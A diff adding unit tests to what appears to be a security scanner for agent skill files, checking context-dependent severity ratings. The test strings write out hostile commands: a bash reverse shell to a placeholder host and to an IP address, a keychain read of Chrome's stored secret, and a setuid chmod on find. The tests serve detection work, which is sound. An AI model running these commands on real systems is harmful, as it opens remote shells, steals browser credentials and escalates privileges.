@@ -25,3 +25,36 @@ describe('context-dependent severity', () => {
     ).toBe('HIGH');
   });
 });
+
+describe('context-dependent severity (placeholders and own secrets)', () => {
+  it('should rate a reverse shell to a placeholder host MEDIUM and to an address CRITICAL', () => {
+    expect(severityOf('SG-RSHELL-001', sh("bash -c 'bash -i >& /dev/tcp/ATTACKER_IP/4444 0>&1'"))).toBe(
+      'MEDIUM',
+    );
+    expect(severityOf('SG-RSHELL-001', sh("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"))).toBe(
+      'CRITICAL',
+    );
+  });
+
+  it("should rate printing the skill's own keychain item MEDIUM and another app's HIGH", () => {
+    const skill = (line: string) =>
+      `---\nname: restic-home\ndescription: Back up home with restic\n---\n${sh(line)}`;
+    expect(severityOf('SG-CRED-005', skill('security find-generic-password -s restic-home -w'))).toBe(
+      'MEDIUM',
+    );
+    expect(
+      severityOf('SG-CRED-005', skill('security find-generic-password -s "Chrome Safe Storage" -w')),
+    ).toBe('HIGH');
+  });
+
+  it('should cap a script line that lists indicators to look for', () => {
+    const file = 'scripts/timeline.py';
+    const text =
+      'RISKY = ("authorized_keys", "chmod u+s", "crontab")\nos.system("chmod u+s /usr/bin/find")\n';
+    const found = findingsOf(text, file).filter((f) => f.rule_id === 'SG-PERM-003');
+    expect(found.map((f) => [f.line, f.severity])).toEqual([
+      [2, 'HIGH'],
+      [1, 'MEDIUM'],
+    ]);
+  });
+});
